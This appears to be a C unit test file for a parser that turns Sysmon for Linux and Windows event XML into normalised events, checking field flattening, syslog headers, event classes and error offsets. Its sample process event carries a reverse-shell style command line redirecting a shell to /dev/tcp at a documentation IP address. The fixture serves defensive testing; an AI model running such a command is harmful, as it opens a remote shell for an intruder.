/* SPDX-License-Identifier: Apache-2.0 */

/*
 * Rendered event XML, of Sysmon for Linux and of Windows, to events.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "core/normalise/sysmon_xml.h"

#define LINUX_SYSTEM(id)                                                          \
    "<System><Provider Name=\"Linux-Sysmon\" "                                    \
    "Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>"                           \
    "<EventID>" id "</EventID><Version>5</Version><Level>4</Level><Task>1</Task>" \
    "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"                   \
    "<TimeCreated SystemTime=\"2026-11-23T10:00:00.500000000Z\"/>"                \
    "<EventRecordID>7</EventRecordID><Correlation/>"                              \
    "<Execution ProcessID=\"26407\" ThreadID=\"26408\"/>"                         \
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer>"        \
    "<Security UserId=\"0\"/></System>"
#define LINUX_PROCESS                                                                     \
    "<Event>" LINUX_SYSTEM("1") "<EventData><Data Name=\"UtcTime\">2026-11-23 "           \
                                "10:00:00.123</Data><Data Name=\"Image\">/bin/sh"         \
                                "</Data><Data Name=\"CommandLine\">sh -c 'a &gt;&amp; "   \
                                "/dev/tcp/192.0.2.1/1'</Data><Data Name=\"User\"></Data>" \
                                "</EventData></Event>"

static sonda_event *event;
static sonda_error error;

static int open_event(void **state)
{
    (void)state;
    return sonda_event_open(&event, NULL) == SONDA_OK ? 0 : -1;
}

static int close_event(void **state)
{
    (void)state;
    sonda_event_close(event);
    return 0;
}

static sonda_status decode(const char *text)
{
    static const sonda_record_header header = {.source = SONDA_SOURCE_SYSMON_XML,
                                               .wall_ns = 99};
    static const sonda_error no_error = SONDA_ERROR_INIT;

    error = no_error;
    sonda__event_begin(event, &header, sonda__names_of_table());
    return sonda__decode_sysmon_xml(event, sonda__span_text(text), &error);
}

static const sonda__field *field(const char *name, size_t n)
{
    for (size_t i = 0; i < event->field_count; i++) {
        if (sonda__span_is(event->fields[i].name, name) && n-- == 0) {
            return &event->fields[i];
        }
    }
    return NULL;
}

static void assert_field(const char *name, const char *text)
{
    const sonda__field *found = field(name, 0);

    assert_non_null(found);
    assert_int_equal(found->text.len, strlen(text));
    assert_memory_equal(found->text.data, text, found->text.len);
}

static void test_decode_sysmon__process_of_linux__is_a_launch(void **state)
{
    (void)state;

    assert_int_equal(decode(LINUX_PROCESS), SONDA_OK);

    assert_int_equal(event->class_uid, SONDA_CLASS_PROCESS);
    assert_int_equal(event->activity_id, SONDA_PROCESS_LAUNCH);
    assert_int_equal(event->product, SONDA_PRODUCT_LINUX);
    assert_int_equal(event->event_id, 1);
    assert_true(sonda__span_is(event->channel, "Linux-Sysmon/Operational"));
    assert_true(sonda__span_is(event->provider, "Linux-Sysmon"));
    assert_true(event->time_ns == UINT64_C(1795428000123000000));
    assert_field("Image", "/bin/sh");
    assert_field("CommandLine", "sh -c 'a >& /dev/tcp/192.0.2.1/1'");
    assert_field("User", "");
}

static void test_decode_sysmon__system_block__is_flattened(void **state)
{
    (void)state;

    assert_int_equal(decode(LINUX_PROCESS), SONDA_OK);

    assert_field("Provider_Name", "Linux-Sysmon");
    assert_field("Provider_Guid", "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}");
    assert_field("EventID", "1");
    assert_field("Version", "5");
    assert_field("Keywords", "0x8000000000000000");
    assert_field("TimeCreated_SystemTime", "2026-11-23T10:00:00.500000000Z");
    assert_field("EventRecordID", "7");
    assert_field("Execution_ProcessID", "26407");
    assert_field("Execution_ThreadID", "26408");
    assert_field("Computer", "web1");
    assert_field("Security_UserId", "0");
    assert_null(field("Correlation", 0));
}

static void test_decode_sysmon__headers_of_syslog__are_passed_over(void **state)
{
    static const char *const lines[] = {
        "Nov 23 10:00:00 web1 sysmon: " LINUX_PROCESS,
        "2026-11-23T10:00:00.000000+00:00 web1 sysmon[7]: " LINUX_PROCESS "\n",
        "<14>1 2026-11-23T10:00:00Z web1 sysmon 7 - - " LINUX_PROCESS,
        "<14>Nov 23 10:00:00 web1 sysmon: <Events " LINUX_PROCESS,
    };

    (void)state;
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        assert_int_equal(decode(lines[i]), SONDA_OK);
        assert_field("Image", "/bin/sh");
    }
}

static void test_decode_sysmon__other_ids_of_linux__get_their_class(void **state)
{
    (void)state;

    assert_int_equal(decode("<Event>" LINUX_SYSTEM("3") "<EventData/></Event>"), SONDA_OK);
    assert_int_equal(event->class_uid, SONDA_CLASS_NETWORK);
    assert_true(event->time_ns == UINT64_C(1795428000500000000));

    assert_int_equal(decode("<Event>" LINUX_SYSTEM("11") "<EventData/></Event>"), SONDA_OK);
    assert_int_equal(event->class_uid, SONDA_CLASS_FILE);
    assert_int_equal(event->activity_id, SONDA_FILE_CREATE);

    assert_int_equal(decode("<Event>" LINUX_SYSTEM("5") "<EventData/></Event>"), SONDA_OK);
    assert_int_equal(event->class_uid, SONDA_CLASS_PROCESS);
    assert_int_equal(event->activity_id, SONDA_PROCESS_TERMINATE);
}

static void test_decode_sysmon__rendered_by_windows__is_of_windows(void **state)
{
    (void)state;

    assert_int_equal(
        decode("<?xml version='1.0'?><Event "
               "xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
               "<Provider Name='Microsoft-Windows-Security-Auditing'/>"
               "<EventID Qualifiers='5'>4688</EventID><Channel>Security</Channel></System>"
               "<EventData><Data Name='NewProcessName'>C:\\x.exe</Data></EventData>"
               "<RenderingInfo Culture='en-US'><Message>A new process.</Message>"
               "<Level>Information</Level></RenderingInfo></Event>"),
        SONDA_OK);

    assert_int_equal(event->product, SONDA_PRODUCT_WINDOWS);
    assert_int_equal(event->class_uid, SONDA_CLASS_PROCESS);
    assert_int_equal(event->event_id, 4688);
    assert_field("NewProcessName", "C:\\x.exe");
    assert_field("EventID_Qualifiers", "5");
    assert_field("Message", "A new process.");
    assert_null(field("Level", 0));
    assert_null(field("Event_xmlns", 0));
    assert_true(event->time_ns == 99);
}

static void test_decode_sysmon__data_without_name__is_a_list(void **state)
{
    (void)state;

    assert_int_equal(decode("<Event><System><EventID>1</EventID></System><EventData>"
                            "<Data>one</Data><Data Name=''>two</Data><Binary>00</Binary>"
                            "</EventData></Event>"),
                     SONDA_OK);

    assert_field("Data", "one");
    assert_true(sonda__span_is(field("Data", 1)->text, "two"));
    assert_field("Binary", "00");
}

static void test_decode_sysmon__user_data__gives_its_leaves(void **state)
{
    (void)state;

    assert_int_equal(decode("<Event><System><EventID>21</EventID></System><UserData>"
                            "<EventXML xmlns='x'>\n<User>anna</User><a:Address>192.0.2.1"
                            "</a:Address><Empty/></EventXML></UserData></Event>"),
                     SONDA_OK);

    assert_field("User", "anna");
    assert_field("Address", "192.0.2.1");
    assert_field("Empty", "");
    assert_null(field("EventXML", 0));
}

static void test_decode_sysmon__ill_formed_text__is_kept_and_flagged(void **state)
{
    (void)state;

    assert_int_equal(decode("<Event><EventData><Data Name='Image'>/\xff</Data>"
                            "<Data Name='User'>\xc3\xa9</Data></EventData></Event>"),
                     SONDA_OK);

    assert_field("Image", "/\xff");
    assert_int_equal(field("Image", 0)->flags, SONDA_VALUE_ILL_FORMED);
    assert_int_equal(field("User", 0)->flags, 0);
}

static void test_decode_sysmon__escapes_of_rsyslog__stay(void **state)
{
    (void)state;

    assert_int_equal(decode("<Event><EventData><Data Name='CommandLine'>a#012b</Data>"
                            "</EventData></Event>"),
                     SONDA_OK);

    assert_field("CommandLine", "a#012b");
}

static void test_decode_sysmon__broken__says_where_in_the_payload(void **state)
{
    static const struct {
        const char *text;
        sonda_status status;
        size_t offset;
    } rows[] = {
        {"", SONDA_ERR_MALFORMED, 0},
        {"Nov 23 10:00:00 web1 cron: run", SONDA_ERR_MALFORMED, 0},
        {"h: <EventData></EventData>", SONDA_ERR_MALFORMED, 0},
        {"h: <Event", SONDA_ERR_MALFORMED, 0},
        {"h: <Event>", SONDA_ERR_TRUNCATED, 10},
        {"h: <Event><System></Event>", SONDA_ERR_MALFORMED, 18},
        {"h: <Event><EventData><Data Name='x'>y", SONDA_ERR_TRUNCATED, 37},
        {"h: <Event><EventData><Data Name='x'>&y;</Data>", SONDA_ERR_MALFORMED, 36},
        {"h: <Event></Event> more", SONDA_ERR_MALFORMED, 19},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        assert_int_equal(decode(rows[i].text), rows[i].status);
        assert_int_equal(error.offset, rows[i].offset);
        assert_int_not_equal(error.message[0], '\0');
    }
}

static void test_decode_sysmon__more_data_than_an_event_holds__is_a_limit(void **state)
{
    static char text[9 * 5000 + 32];
    size_t used = strlen(strcpy(text, "<Event><EventData>"));

    (void)state;
    for (size_t i = 0; i < 5000; i++) {
        memcpy(text + used, "<Data/>", 8);
        used += 7;
    }

    assert_int_equal(decode(text), SONDA_ERR_LIMIT);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_decode_sysmon__process_of_linux__is_a_launch),
        cmocka_unit_test(test_decode_sysmon__system_block__is_flattened),
        cmocka_unit_test(test_decode_sysmon__headers_of_syslog__are_passed_over),
        cmocka_unit_test(test_decode_sysmon__other_ids_of_linux__get_their_class),
        cmocka_unit_test(test_decode_sysmon__rendered_by_windows__is_of_windows),
        cmocka_unit_test(test_decode_sysmon__data_without_name__is_a_list),
        cmocka_unit_test(test_decode_sysmon__user_data__gives_its_leaves),
        cmocka_unit_test(test_decode_sysmon__ill_formed_text__is_kept_and_flagged),
        cmocka_unit_test(test_decode_sysmon__escapes_of_rsyslog__stay),
        cmocka_unit_test(test_decode_sysmon__broken__says_where_in_the_payload),
        cmocka_unit_test(test_decode_sysmon__more_data_than_an_event_holds__is_a_limit),
    };

    return cmocka_run_group_tests(tests, open_event, close_event);
}
